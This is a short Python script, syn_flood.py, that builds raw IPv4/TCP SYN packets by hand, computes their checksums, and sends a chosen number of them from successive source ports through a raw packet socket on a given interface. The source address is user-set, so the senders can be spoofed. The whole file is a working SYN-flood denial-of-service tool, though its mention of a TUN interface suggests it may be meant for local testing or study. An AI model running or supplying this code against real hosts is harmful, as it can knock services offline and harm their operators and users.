"""Sends COUNT SYNs over a TUN, each from another port: syn_flood.py INTERFACE SOURCE DESTINATION PORT COUNT."""

import socket
import struct
import sys

interface, source, destination, port, count = *sys.argv[1:5], int(sys.argv[5])
source, destination = socket.inet_aton(source), socket.inet_aton(destination)


def checksum(data):
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def syn(own):
    segment = lambda sum: struct.pack('!HHIIBBHHH', own, int(port), 1000 * own, 0, 5 << 4, 2, 65535, sum, 0)
    pseudo = source + destination + struct.pack('!BBH', 0, 6, 20)
    segment = segment(checksum(pseudo + segment(0)))
    header = lambda sum: struct.pack('!BBHHHBBH', 0x45, 0, 40, own, 0, 64, 6, sum) + source + destination
    return header(checksum(header(0))) + segment


raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
for own in range(40000, 40000 + count):
    raw.sendto(syn(own), (interface, 0x0800))
